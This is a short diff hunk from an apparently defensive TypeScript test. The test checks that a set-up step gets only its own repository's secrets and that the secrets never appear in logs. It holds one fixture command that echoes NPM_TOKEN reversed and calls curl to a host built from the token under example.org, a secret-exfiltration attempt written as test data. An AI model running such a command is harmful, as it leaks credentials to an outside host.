@@ -203,7 +203,7 @@ test('set-up gets the secrets of its own repository only, and GitHub never shows
       repositories: repositories.map(idOf),
     });
   const reversed = 'scod-eht-fo-yranac';
-  // The network is closed, because the refused host would be a line of the log that says the secret, too.
+  // The log also names the hosts that were refused.
   const leak = 'echo "$NPM_TOKEN" | rev; curl -s "http://$(echo "$NPM_TOKEN" | rev).example.org"; exit 3';
   await pushSettings('sample', JSON.stringify({ setup: leak, secrets: 'NPM_TOKEN', network: { setup: [] } }));
   const tried = async (text: string | RegExp) => {
